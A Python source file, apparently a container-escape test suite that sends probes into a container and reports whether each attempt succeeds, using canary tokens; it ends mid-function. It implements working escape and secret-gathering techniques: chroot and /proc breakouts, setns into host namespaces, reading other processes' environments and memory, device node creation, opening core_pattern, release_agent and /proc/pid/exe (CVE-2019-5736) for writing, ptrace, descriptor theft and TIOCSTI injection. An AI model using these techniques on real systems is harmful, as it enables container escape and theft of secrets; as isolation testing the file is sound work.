"""Attacks run in a container: one function for each attempt, which returns what the attempt saw or got.

This file is sent into the container as it is, to the host's `python3`; so it needs nothing but the standard library.
Each attempt runs in a child of its own, bounded in time. An attempt that succeeds does not damage the machine: files
that are opened for writing are not written to, and calls that would stop the machine get arguments that it refuses.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import hashlib
import json
import os
import re
import select
import signal
import socket
import stat
import struct
import sys
import time

CONFIG: dict[str, str] = {}
INHERITED = {
    fd: os.readlink("/proc/self/fd/" + fd)
    for fd in os.listdir("/proc/self/fd")
    if os.path.lexists("/proc/self/fd/" + fd)
}
PATIENCE = 20.0
WATCHING = 60.0  # seconds in which execs are caught; on a busy machine each takes some

# Large directories of the system, and those of the kernel, that no search has to go through.
PRUNED = ("proc", "sys", "usr", "lib", "nix", "share", "include")

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x00020000, 0x10000000, 0x40000000
MS_NOSUID, MS_NODEV, MS_REMOUNT, MS_BIND, MS_REC = 2, 4, 32, 4096, 16384
AT_FDCWD = -100

# The numbers of calls that glibc does not wrap: x86_64 and the others (aarch64, riscv64).
NUMBERS = {
    "kexec_load": (246, 104), "init_module": (175, 105), "add_key": (248, 217),
    "request_key": (249, 218), "keyctl": (250, 219), "pivot_root": (155, 41), "reboot": (169, 142),
    "perf_event_open": (298, 241), "bpf": (321, 280), "userfaultfd": (323, 282), "io_uring_setup": (425, 425),
    "open_tree": (428, 428), "fsopen": (430, 430), "pidfd_open": (434, 434),
    "pidfd_getfd": (438, 438), "mount_setattr": (442, 442), "settimeofday": (170, 170), "swapon": (167, 224),
    "acct": (163, 89), "syslog": (103, 116), "clock_settime": (227, 112), "iopl": (172, -1), "quotactl": (179, 60),
    "process_vm_readv": (310, 270), "setns": (308, 268), "unshare": (272, 97),
    "fanotify_init": (300, 262),
}  # fmt: skip


def named(number: int) -> str:
    return errno.errorcode.get(number, str(number))


def call(function, *arguments):
    """A function of the C library; raises OSError."""
    result = getattr(libc, function)(*arguments)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, f"{function}: {os.strerror(number)}")
    return result


def syscall(name: str, *arguments):
    number = NUMBERS[name][0 if os.uname().machine == "x86_64" else 1]
    if number < 0:
        raise OSError(errno.ENOSYS, name)
    wide = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
    return call("syscall", ctypes.c_long(number), *wide)


def tried(what: str, function, *arguments) -> str:
    """`what: OPEN` if the call came through, else `what: ` and the error's name."""
    try:
        function(*arguments)
    except OSError as error:
        return f"{what}: {named(error.errno or 0)}"
    return f"{what}: OPEN"


def read(path: str, size: int = 4096) -> str:
    """The beginning of a file, or the error's name."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC)
    except OSError as error:
        return named(error.errno or 0)
    try:
        return os.read(fd, size).decode("utf-8", "replace")
    except OSError as error:
        return named(error.errno or 0)
    finally:
        os.close(fd)


def listing(path: str) -> str:
    try:
        return " ".join(sorted(os.listdir(path)))
    except OSError as error:
        return named(error.errno or 0)


def look(path: str) -> str:
    """Return what is visible of a path: the names in it, the canary in it, its own content."""
    return f"{path}: [{listing(path)}] [{read(path)}] [{read(path + '/canary')}]"


def mount(source: str, target: str, kind: str = "", flags: int = 0, data: str = "") -> None:
    call("mount", source.encode(), target.encode(), kind.encode() or None, flags, data.encode() or None)


def mount_points() -> list[str]:
    with open("/proc/self/mountinfo", encoding="utf-8", errors="replace") as file:
        return [line.split()[4].encode().decode("unicode_escape") for line in file]


def processes() -> list[int]:
    own = {os.getpid(), os.getppid()}
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in own]


# Users, groups and capabilities of the process.


def credentials() -> str:
    with open("/proc/self/status", encoding="ascii", errors="replace") as file:
        return "".join(line for line in file if line.startswith(("Cap", "NoNewPrivs", "Seccomp:", "Uid", "Gid")))


def descriptors() -> str:
    """The descriptors with which the program was started, without the one that lists them."""
    return "\n".join(f"{fd} {target}" for fd, target in INHERITED.items() if not target.startswith("/proc/"))


def own_environment() -> str:
    return "\n".join(f"{name}={value}" for name, value in os.environ.items())


def environments() -> str:
    """Return the environment of each process that can be seen."""
    return "\n".join(f"{pid}: {read(f'/proc/{pid}/environ', 1 << 20)}" for pid in processes())


def command_lines() -> str:
    return "\n".join(f"{pid}: {read(f'/proc/{pid}/cmdline', 1 << 16)}" for pid in processes())


def process_count() -> str:
    return f"{len(processes())} processes"


# The machine's files by name.


def canary_by_name() -> str:
    directory = CONFIG["machine"]
    up = "/".join([".."] * 20)
    bases = ["", f"/{up}", f"/proc/self/root/{up}", f"/proc/self/cwd/{up}", "/proc/1/root", f"/proc/1/cwd/{up}"]
    return "\n".join(look(base + directory) for base in bases)


def canary_by_search() -> str:
    """Every file that is named like a canary, in every mounted file system."""
    found = []
    deadline = time.monotonic() + PATIENCE / 2
    for directory, names, files in os.walk("/"):
        names[:] = [name for name in names if name not in PRUNED]
        if time.monotonic() > deadline:
            break
        found += [f"{directory}/{name}: {read(f'{directory}/{name}')}" for name in files if name == "canary"]
    return "\n".join(found) or "nothing"


def canary_by_process() -> str:
    """Look through the links that /proc has to each process's root, working directory and open files."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        bases = [f"/proc/{pid}/root", f"/proc/{pid}/cwd"]
        try:
            bases += [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError as error:
            found.append(f"{pid}: {named(error.errno or 0)}")
        for base in bases:
            for path in (CONFIG["machine"], CONFIG["home"]):
                found.append(read(base + path + "/canary"))
                found.append(read(f"{base}/../../../../../../../../../..{path}/canary"))
    return "\n".join(sorted(set(found)))


def root_only_files() -> str:
    """Hashes of all files in /etc that can be read."""
    found = []
    for directory, _, files in os.walk(CONFIG.get("etc", "/etc")):
        for name in files:
            try:
                with open(f"{directory}/{name}", "rb") as file:
                    content = file.read(1 << 20)
            except OSError:
                continue
            found.append(f"{hashlib.sha256(content).hexdigest()} {directory}/{name}")
    return "\n".join(found) or "nothing"


def homes() -> str:
    found = []
    for base in CONFIG.get("homes", "/root /home").split():
        try:
            for entry in os.scandir(base):
                about = entry.stat(follow_symlinks=False)
                found.append(f"{entry.name}:{about.st_mtime_ns}:{about.st_size}")
        except OSError as error:
            found.append(f"{base}: {named(error.errno or 0)}")
    return "\n".join(found) or "empty"


def links_in_volume() -> str:
    return listing("/v")


def unix_sockets_by_name() -> str:
    found = []
    for directory, names, files in os.walk("/"):
        if directory in ("/proc", "/sys", "/usr"):
            names[:] = []
        for name in files:
            path = f"{directory}/{name}"
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode):
                    found.append(path)
            except OSError:
                continue
    return " ".join(found) or "none"


def file_handle() -> str:
    """open_by_handle_at(2) with the canary's handle, by each mount of the container."""

    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("bytes", ctypes.c_char * 128)]

    seen = set()
    kind, _, content = CONFIG["handle"].partition(":")
    raw = bytes.fromhex(content)
    for point in mount_points():
        handle = Handle(len(raw), int(kind), raw)
        ctypes.memmove(ctypes.addressof(handle) + Handle.bytes.offset, raw, len(raw))
        try:
            at = os.open(point, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            try:
                fd = call("open_by_handle_at", at, ctypes.byref(handle), os.O_RDONLY)
                seen.add(os.read(fd, 4096).decode())
            finally:
                os.close(at)
        except OSError as error:
            seen.add(named(error.errno or 0))
    return " ".join(sorted(seen))


def chroot_break() -> str:
    """Leave a chroot of one's own, by a directory held open, as far up as it goes."""
    os.makedirs("/tmp/jail", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return look(CONFIG["machine"])


def proc_directory_break() -> str:
    """`..` from the directories that only /proc's links lead to."""
    found = []
    for name in ("self/cwd", "self/root", "1/cwd", "1/root", "thread-self/cwd"):
        try:
            os.chdir(f"/proc/{name}")
            for _ in range(64):
                os.chdir("..")
            found.append(look("." + CONFIG["machine"]))
        except OSError as error:
            found.append(named(error.errno or 0))
    return "\n".join(found)


# Devices.


def block_devices() -> list[tuple[str, int]]:
    """The machine's, as /proc and /sys name them, and the usual ones."""
    found = {("loop0", os.makedev(7, 0)), ("sda", os.makedev(8, 0)), ("nvme0n1", os.makedev(259, 0))}
    try:
        with open("/proc/partitions", encoding="ascii") as file:
            for line in file:
                fields = line.split()
                if len(fields) == 4 and fields[0].isdigit():
                    found.add((fields[3], os.makedev(int(fields[0]), int(fields[1]))))
    except OSError:
        pass
    return sorted(found)[:16]


def make_and_open(directory: str, kind: int, devices) -> str:
    lines = []
    for name, device in devices:
        path = f"{directory}/device-{name}"
        try:
            os.mknod(path, kind | 0o600, device)
        except OSError as error:
            lines.append(f"mknod {name}: {named(error.errno or 0)}")
            continue
        lines.append(tried(name, lambda path=path: os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))))
        os.unlink(path)
    return "\n".join(sorted(set(lines)))


CHARACTER_DEVICES = [
    (name, os.makedev(major, minor))
    for name, major, minor in (
        ("mem", 1, 1),
        ("kmsg", 1, 11),
        ("port", 1, 4),
        ("console", 5, 1),
        ("fuse", 10, 229),
        ("loop-control", 10, 237),
        ("kvm", 10, 232),
        ("tun", 10, 200),
    )
]


def block_device_in_volume() -> str:
    return make_and_open(CONFIG.get("volume", "/volume"), stat.S_IFBLK, block_devices())


def block_device_in_root() -> str:
    return "\n".join(
        make_and_open(directory, stat.S_IFBLK, block_devices()) for directory in ("/tmp", "/dev", "/dev/shm", "/etc")
    )


def character_device_in_volume() -> str:
    return make_and_open(CONFIG.get("volume", "/volume"), stat.S_IFCHR, CHARACTER_DEVICES)


def character_device_in_root() -> str:
    return "\n".join(
        make_and_open(directory, stat.S_IFCHR, CHARACTER_DEVICES) for directory in ("/tmp", "/dev", "/dev/shm")
    )


def devices_shown() -> str:
    """Devices below /dev, terminals aside."""
    found = []
    for directory, _, files in os.walk("/dev"):
        for name in files:
            mode = os.lstat(f"{directory}/{name}").st_mode
            if (stat.S_ISCHR(mode) or stat.S_ISBLK(mode)) and not directory.startswith("/dev/pts"):
                found.append(f"{directory}/{name}".removeprefix("/dev/"))
    return " ".join(sorted(found))


def mount_flags() -> str:
    """Mounts of files and directories that lack nosuid or nodev: neither the container's root nor single devices."""
    lacking = []
    with open("/proc/self/mountinfo", encoding="utf-8", errors="replace") as file:
        for line in file:
            fields, _, kind = line.partition(" - ")
            point, options = fields.split()[4], fields.split()[5].split(",")
            if kind.split()[0] in ("overlay", "proc", "sysfs", "devpts") or point == "/":
                continue
            if stat.S_ISCHR(os.lstat(point).st_mode):
                continue
            missing = [option for option in ("nosuid", "nodev") if option not in options]
            if missing and (point != "/dev" or missing == ["nosuid", "nodev"]):
                lacking.append(f"{point} ({kind.split()[0]}) lacks {' '.join(missing)}")
    return "\n".join(lacking) or "all have nosuid and nodev"


def set_user_id_file() -> str:
    """A set-user-ID program in a volume, started by another user. The mount's flag, if there is no other user."""
    path = CONFIG.get("volume", "/volume") + "/id"
    with (
        open("/bin/busybox" if os.path.exists("/bin/busybox") else sys.executable, "rb") as source,
        open(path, "wb") as file,
    ):
        file.write(source.read())
    os.chmod(path, 0o4755)
    if os.statvfs(path).f_flag & os.ST_NOSUID == 0:
        return "OPEN: the volume honours set-user-ID files"
    return "nosuid"


# The kernel's settings: opened for writing, never written to.


def open_for_writing(*paths: str) -> str:
    found = [CONFIG.get("below", "") + path for path in paths]
    return "\n".join(
        tried(path, lambda path=path: os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))) for path in found
    )


def write_kernel_settings() -> str:
    return open_for_writing(
        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sys/kernel/modprobe",
        "/proc/sys/kernel/panic", "/proc/sys/vm/drop_caches", "/proc/sys/fs/file-max",
        "/proc/sys/fs/binfmt_misc/register", "/proc/sys/kernel/sysrq", "/proc/sys/user/max_user_namespaces",
        "/proc/sys/kernel/shmmax", "/proc/sys/kernel/ns_last_pid",
    )  # fmt: skip


def write_network_settings() -> str:
    return open_for_writing("/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/conf/all/rp_filter",
                            "/proc/sys/net/core/somaxconn", "/proc/1/net/../sys/net/ipv4/ip_forward")  # fmt: skip


def write_proc() -> str:
    return open_for_writing("/proc/sysrq-trigger", "/proc/irq/0/smp_affinity", "/proc/irq/default_smp_affinity",
                            "/proc/mtrr", "/proc/acpi/wakeup", "/proc/scsi/scsi", "/proc/latency_stats",
                            "/proc/fs/nfsd/threads")  # fmt: skip


def write_sys() -> str:
    return open_for_writing(
        "/sys/power/state",
        "/sys/kernel/uevent_helper",
        "/sys/kernel/mm/transparent_hugepage/enabled",
        "/sys/module/overlay/parameters/redirect_dir",
        "/sys/devices/system/cpu/cpu1/online",
        "/sys/kernel/kexec_crash_size",
        "/sys/fs/cgroup/cgroup.procs",
        "/sys/fs/cgroup/release_agent",
    )


def write_cgroups() -> str:
    """Files of any cgroup hierarchy that can be opened for writing, and one mounted anew."""
    lines = []
    for directory, names, files in os.walk("/sys/fs/cgroup"):
        if directory.count("/") > 5:
            names[:] = []
        wanted = {"cgroup.procs", "release_agent", "devices.allow", "memory.max", "notify_on_release"}
        lines += [open_for_writing(f"{directory}/{name}") for name in files if name in wanted]
    os.makedirs("/tmp/cgroup", exist_ok=True)
    for kind, data in (("cgroup2", ""), ("cgroup", "rdma"), ("cgroup", "memory")):
        lines.append(tried(f"mount {kind} {data}", mount, kind, "/tmp/cgroup", kind, 0, data))
    return "\n".join(sorted(set(lines)))


def masked_files() -> str:
    """containerd's: they read as empty or are not there."""
    paths = ("/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/latency_stats",
             "/proc/timer_stats", "/proc/interrupts")  # fmt: skip
    lines = []
    for path in paths:
        text = read(path, 64)
        lines.append(f"{path}: {text if text in errno.errorcode.values() else f'{len(text)} bytes'}")
    return "\n".join(lines)


def masked_directories() -> str:
    paths = ("/proc/acpi", "/proc/asound", "/proc/scsi", "/sys/firmware", "/sys/devices/virtual/powercap")
    return "\n".join(
        f"{path}: [{listing(path) if listing(path) not in errno.errorcode.values() else ''}]" for path in paths
    )


def read_only_paths() -> str:
    """containerd's: of /proc/bus, /proc/fs, /proc/irq, /proc/sys and /proc/sysrq-trigger, those that are writable."""
    paths = [
        path
        for path in ("/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger")
        if os.path.exists(path)
    ]
    writable = [path for path in paths if not os.statvfs(path).f_flag & os.ST_RDONLY]
    return f"writable: {' '.join(writable)}" if writable else "read-only"


# Mounts and namespaces.


def mounting() -> str:
    os.makedirs("/tmp/m", exist_ok=True)
    return "\n".join([
        tried("tmpfs", mount, "tmpfs", "/tmp/m", "tmpfs"),
        tried("proc", mount, "proc", "/tmp/m", "proc"),
        tried("bind", mount, "/", "/tmp/m", "", MS_BIND | MS_REC),
        tried("remount", mount, "", "/proc/sys", "", MS_REMOUNT | MS_BIND),
        tried("remount sysfs", mount, "", "/sys", "", MS_REMOUNT | MS_BIND),
        tried("umount", lambda: call("umount2", b"/proc/sys", 2)),
        tried("pivot_root", syscall, "pivot_root", b"/tmp", b"/tmp"),
        tried("fsopen", syscall, "fsopen", b"tmpfs", 0),
        tried("open_tree", syscall, "open_tree", AT_FDCWD, b"/", 1),
        tried("mount_setattr", syscall, "mount_setattr", AT_FDCWD, b"/proc/sys", 0, b"\0" * 8 + b"\1" + b"\0" * 23, 32),
    ])  # fmt: skip


def new_namespaces() -> str:
    kinds = {
        "user": CLONE_NEWUSER,
        "mount": CLONE_NEWNS,
        "net": CLONE_NEWNET,
        "user and mount": CLONE_NEWUSER | CLONE_NEWNS,
    }
    lines = []
    for name, flags in kinds.items():
        if os.fork() == 0:
            line = tried(name, syscall, "unshare", flags)
            os.write(1, (line + "\n").encode())
            os._exit(0)
        os.wait()
    return "\n".join(lines)


def unmask_in_user_namespace() -> str:
    """Take the masks off, mount a new /proc and make the read-only writable, as root of a user namespace of its own."""
    user, group = os.geteuid(), os.getegid()
    syscall("unshare", CLONE_NEWUSER | CLONE_NEWNS)
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
        try:
            with open(f"/proc/self/{name}", "w", encoding="ascii") as file:
                file.write(text)
        except OSError:
            continue
    os.makedirs("/tmp/n", exist_ok=True)
    covered = [p for p in mount_points() if p.startswith(("/proc/", "/sys/", "/dev/", "/etc/"))]
    lines = [tried(f"umount {point}", lambda point=point: call("umount2", point.encode(), 2)) for point in covered]
    lines += [tried(f"remount {point}", mount, "", point, "", MS_REMOUNT | MS_BIND) for point in ("/proc/sys", "/sys")]
    lines += [tried("proc", mount, "proc", "/tmp/n", "proc"), tried("sysfs", mount, "sysfs", "/tmp/n", "sysfs")]
    lines += [look("/tmp/n" + CONFIG["machine"]), look(CONFIG["machine"])]
    return "\n".join(lines)


def enter_namespaces() -> str:
    """setns(2) to the namespaces of each process that can be seen and is in others than this one."""
    lines = []
    for pid in processes():
        for kind in ("user", "mnt", "net", "pid", "ipc", "uts", "cgroup"):
            try:
                if os.readlink(f"/proc/{pid}/ns/{kind}") == os.readlink(f"/proc/self/ns/{kind}"):
                    continue
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError as error:
                lines.append(f"{kind}: {named(error.errno or 0)}")
                continue
            lines.append(tried(f"{kind} of {pid}", syscall, "setns", fd, 0))
            os.close(fd)
    return "\n".join(sorted(set(lines))) or "no other namespaces"


def enter_first_process() -> str:
    """`nsenter --target 1 --mount`, as privileged pods that share the node's processes are used on real nodes."""
    lines = []
    for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
        child = os.fork()
        if child == 0:
            try:
                fd = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
                syscall("setns", fd, 0)
                os.write(1, (look(CONFIG["machine"]) + look(CONFIG["home"]) + "\n").encode())
            except OSError as error:
                os.write(1, f"{named(error.errno or 0)}\n".encode())
            os._exit(0)
        os.waitpid(child, 0)
    return "\n".join(lines)


# Other processes and their memory.

TOKEN = re.compile(rb"CANARY-[a-z]+-[0-9a-f]{16}")


def memory_of(pid: int) -> set[str]:
    """Canaries in the memory of a process."""
    found = set()
    with (
        open(f"/proc/{pid}/maps", encoding="utf-8", errors="replace") as maps,
        open(f"/proc/{pid}/mem", "rb", 0) as memory,
    ):
        for line in maps:
            span, mode, *_ = line.split()
            if not mode.startswith("rw") or "[v" in line:
                continue
            start, end = (int(word, 16) for word in span.split("-"))
            tail = b""
            for at in range(start, end, 1 << 20):
                try:
                    memory.seek(at)
                    block = memory.read(min(1 << 20, end - at))
                except (OSError, OverflowError, ValueError):
                    break
                found |= {match.decode() for match in TOKEN.findall(tail + block)}
                tail = block[-64:]
    return found


def memory() -> str:
    lines = []
    for pid in processes():
        try:
            lines.append(f"{pid}: readable {' '.join(sorted(memory_of(pid)))}")
        except OSError as error:
            lines.append(f"{pid}: {named(error.errno or 0)}")
    return "\n".join(lines) or "no processes"


def memory_of_first() -> str:
    return "\n".join(
        tried(name, lambda name=name: os.close(os.open(f"/proc/1/{name}", os.O_RDONLY)))
        for name in ("mem", "environ", "maps")
    ).replace("environ: OPEN", "environ: " + repr(read("/proc/1/environ", 1 << 20)))


def memory_by_call() -> str:
    """process_vm_readv(2) of the first process."""
    buffer = ctypes.create_string_buffer(4096)
    with open("/proc/1/maps", encoding="utf-8", errors="replace") as maps:
        start = next(int(line.split("-")[0], 16) for line in maps if " rw" in line)

    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    ours, theirs = Vector(ctypes.addressof(buffer), 4096), Vector(start, 4096)
    return tried("process_vm_readv", syscall, "process_vm_readv", 1, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)


def trace() -> str:
    """ptrace(2) of the first process, and of PIDs that belong to others if they belong to anybody."""
    libc.ptrace.argtypes = [ctypes.c_long] * 4
    seize = 0x4206
    others = [pid for pid in range(2, 3000) if not os.path.exists(f"/proc/{pid}")]
    lines = {tried("first" if pid == 1 else "others", call, "ptrace", seize, pid, 0, 0) for pid in [1, *others]}
    return "\n".join(sorted(lines))


def signal_others() -> str:
    """Signal 0 and a harmless SIGUSR1 to every PID that is not visible here."""
    hit = []
    for pid in range(2, 40000):
        if os.path.exists(f"/proc/{pid}"):
            continue
        try:
            os.kill(pid, signal.SIGUSR1)
            hit.append(pid)
        except ProcessLookupError:
            continue
        except PermissionError:
            hit.append(pid)
    return f"signalled {hit}" if hit else "nobody"


def take_descriptors() -> str:
    """pidfd_getfd(2): descriptors of the first process."""
    pidfd = syscall("pidfd_open", 1, 0)
    taken = set()
    for number in range(1024):
        try:
            fd = syscall("pidfd_getfd", pidfd, number, 0)
            taken.add("OPEN " + os.readlink(f"/proc/self/fd/{fd}"))
            os.close(fd)
        except OSError as error:
            taken.add(named(error.errno or 0))
    return "\n".join(sorted(taken))


def overwrite_program() -> str:
    """CVE-2019-5736: the program of a process that came from outside, opened for writing."""
    return "\n".join(
        tried(f"exe of {pid}", lambda pid=pid: os.close(os.open(f"/proc/{pid}/exe", os.O_WRONLY)))
        for pid in processes()
    )


def mapped_files() -> str:
    """Files that a process has mapped, which lie outside of the container."""
    lines = set()
    for pid in processes():
        try:
            names = os.listdir(f"/proc/{pid}/map_files")
        except OSError as error:
            lines.add(named(error.errno or 0))
            continue
        lines |= {tried("map_files", os.open, f"/proc/{pid}/map_files/{name}", os.O_RDONLY) for name in names}
    return "\n".join(sorted(lines))


def watch_for_exec() -> str:
    """Catches each process that comes from outside before it is the program that was asked for, and stops it again and
    again on its way there: its memory, its descriptors, its program, its working directory and root."""
    end = time.monotonic() + WATCHING
    found, caught = set(), 0
    last = max(int(name) for name in os.listdir("/proc") if name.isdigit())
    while caught < 15 and time.monotonic() < end:
        for pid in range(last + 1, last + 4):
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                continue
            last, caught = pid, caught + 1
            for step in range(3000):
                found |= pry(pid)
                name = read(f"/proc/{pid}/comm").strip()
                if name in ("true", "ESRCH", "ENOENT"):
                    break
                try:
                    os.kill(pid, signal.SIGCONT)
                    pause = time.perf_counter() + (step % 7) * 1e-5
                    while time.perf_counter() < pause:
                        pass
                    os.kill(pid, signal.SIGSTOP)
                except OSError:
                    break
            try:
                os.kill(pid, signal.SIGCONT)
            except OSError:
                continue
    return f"caught {caught}\n" + "\n".join(sorted(found))


def pry(pid: int) -> set[str]:
    """The secrets visible in a stopped process, unless it is the requested program."""
    found = set()
    try:
        os.close(os.open(f"/proc/{pid}/mem", os.O_RDONLY))
        exe = os.readlink(f"/proc/{pid}/exe")
        if "python" not in exe:
            return found
        found.add(f"OPEN {exe}: {' '.join(sorted(memory_of(pid)))}")
        found |= {
            f"descriptor {os.readlink(f'/proc/{pid}/fd/{fd}').split(':')[0]}" for fd in os.listdir(f"/proc/{pid}/fd")
        }
        found.add(read(f"/proc/{pid}/root{CONFIG['machine']}/canary"))
        found.add(tried("its program", lambda: os.close(os.open(f"/proc/{pid}/exe", os.O_WRONLY))))
    except OSError as error:
        found.add(named(error.errno or 0))
    return found


# Calls that containerd's filter or capabilities refuse.


def one_call(name: str, *arguments) -> str:
    return tried(name, syscall, name, *arguments)


def io_uring() -> str:
    return one_call("io_uring_setup", 4, ctypes.create_string_buffer(256))


def bpf() -> str:
    """A map of one entry, which unprivileged users may make on some kernels."""
    return one_call("bpf", 0, struct.pack("<IIIII", 2, 4, 4, 1, 0).ljust(128, b"\0"), 128)


def perf_events() -> str:
    attributes = struct.pack("<IIQ", 1, 128, 0).ljust(128, b"\0")
    return one_call("perf_event_open", attributes, 0, -1, -1, 0)


def user_faults() -> str:
    return one_call("userfaultfd", 0)


def kexec() -> str:
    return one_call("kexec_load", 0, 1 << 20, 0, 0)


def load_module() -> str:
    return one_call("init_module", b"no module", 9, b"")


def key_rings() -> str:
    """The session's keys: those of the user who started the lab, if they were inherited."""
    lines = [tried("add_key", lambda: syscall("add_key", b"user", b"attempt", b"x", 1, -3))]
    try:
        key = syscall("keyctl", 10, -3, b"user", b"canary", 0)
        buffer = ctypes.create_string_buffer(256)
        size = syscall("keyctl", 11, key, buffer, 256)
        lines.append(f"OPEN {buffer.raw[:size].decode()}")
    except OSError as error:
        lines.append(f"keyctl: {named(error.errno or 0)}")
    return "\n".join(lines)


def request_key() -> str:
    return one_call("request_key", b"user", b"canary", b"", 0)


def reboot() -> str:
    """Hold Ctrl-Alt-Del back, as it already is."""
    return one_call("reboot", 0xFEE1DEAD - (1 << 32), 672274793, 0, 0)


def set_clock() -> str:
    """Set the clock to the time that it shows."""
    return one_call("clock_settime", 0, struct.pack("<qq", *divmod(time.time_ns(), 10**9)))


def set_time_of_day() -> str:
    return tried(
        "settimeofday", lambda: call("settimeofday", struct.pack("<qq", *divmod(time.time_ns() // 1000, 10**6)), None)
    )


def set_host_name() -> str:
    return tried("sethostname", lambda: call("sethostname", b"escaped", 7))


def swap() -> str:
    return one_call("swapon", b"/nonexistent", 0)


def process_accounting() -> str:
    return one_call("acct", b"/nonexistent")


def kernel_log() -> str:
    return one_call("syslog", 9, 0, 0)


def io_ports() -> str:
    return one_call("iopl", 3)


def file_handles() -> str:
    return tried(
        "open_by_handle_at", lambda: call("open_by_handle_at", AT_FDCWD, struct.pack("<Ii", 8, 1) + b"\0" * 8, 0)
    )


def quotas() -> str:
    return one_call("quotactl", 0x80000100, b"/nonexistent", 0, 0)


def file_events() -> str:
    """fanotify_init(2) with a class of notification that may refuse access to files."""
    return one_call("fanotify_init", 4, 0)


# Terminals.


def controlling_terminal() -> str:
    return (
        tried("/dev/tty", lambda: os.close(os.open("/dev/tty", os.O_RDWR)))
        + "\n"
        + tried("/dev/console", lambda: os.close(os.open("/dev/console", os.O_RDWR)))
    )


def terminals() -> str:
    return f"pts: {listing('/dev/pts')}"


def insert_input() -> str:
    """TIOCSTI on each standard stream and the controlling terminal: input for whoever reads there next."""
    import fcntl

    lines = [tried(f"stream {fd}", fcntl.ioctl, fd, 0x5412, b"x") for fd in (0, 1, 2)]
    lines.append(tried("/dev/tty", lambda: fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, b"x")))
    return "\n".join(lines)


# Attempts between pods.


def abstract_socket() -> str:
    with socket.socket(socket.AF_UNIX) as stream:
        stream.settimeout(2)
        stream.connect("\0victim")
        return "OPEN " + stream.recv(100).decode()


def abstract_sockets_listed() -> str:
    with open("/proc/net/unix", encoding="utf-8", errors="replace") as file:
        return "\n".join(sorted({line.split()[-1] for line in file if "@" in line})) or "none"


def shared_memory() -> str:
    libc.shmat.restype = ctypes.c_void_p
    number = call("shmget", 0xB41D, 0, 0)
    return "OPEN " + ctypes.string_at(libc.shmat(number, None, 0), 64).decode()


def message_queue() -> str:
    queue = call("mq_open", b"/victim", os.O_RDONLY | os.O_NONBLOCK)
    buffer = ctypes.create_string_buffer(8192)
    call("mq_receive", queue, buffer, 8192, None)
    return "OPEN " + buffer.value.decode()


def posix_shared_memory() -> str:
    return f"{listing('/dev/shm')}: {read('/dev/shm/victim')}"


def netlink(message_type: int, body: bytes, flags: int = 0x5, protocol: int = 0) -> str:
    """One request, acknowledged; "OPEN" or the error."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as link:
        link.settimeout(3)
        link.bind((0, 0))
        link.send(struct.pack("<IHHII", 16 + len(body), message_type, flags, 1, 0) + body)
        answer = link.recv(8192)
    _, kind, _, _, _ = struct.unpack_from("<IHHII", answer)
    code = struct.unpack_from("<i", answer, 16)[0]
    return "OPEN" if kind != 2 or code == 0 else named(-code)


def change_links() -> str:
    index = socket.if_nametoindex("eth0")
    down = struct.pack("<BxHiII", 0, 0, index, 0, 1)
    route = struct.pack("<BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("<HHi", 8, 4, index)
    address = struct.pack("<BBBBi", 2, 24, 0, 0, index) + struct.pack("<HH4s", 8, 2, b"\x0a\xf4\x01\xfe")
    return "\n".join(
        [f"link: {netlink(16, down)}", f"route: {netlink(24, route, 0x405)}", f"address: {netlink(20, address, 0x405)}"]
    )


def change_rules() -> str:
    """A table for nftables, in a batch."""
    family = struct.pack(">BBH", 2, 0, 10)
    name = struct.pack("<HH", 4 + 8, 1) + b"escaped\0"
    body = struct.pack("<BBH", 2, 0, 0) + name
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as link:
        link.settimeout(3)
        link.bind((0, 0))
        begin = struct.pack("<IHHII", 20, 16, 1, 1, 0) + family
        table = struct.pack("<IHHII", 16 + len(body), (10 << 8) | 0, 0x405, 2, 0) + body
        end = struct.pack("<IHHII", 20, 17, 1, 3, 0) + family
        link.send(begin + table + end)
        answer = link.recv(8192)
        code = struct.unpack_from("<i", answer, 16)[0]
    return "OPEN" if code == 0 else named(-code)


def machine_loopback() -> str:
    """A server on the machine's loopback."""
    with socket.create_connection(("127.0.0.1", int(CONFIG["port"])), 2) as stream:
        return "OPEN " + stream.recv(100).decode()


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def udp_packet(source: str, target: str, text: bytes) -> bytes:
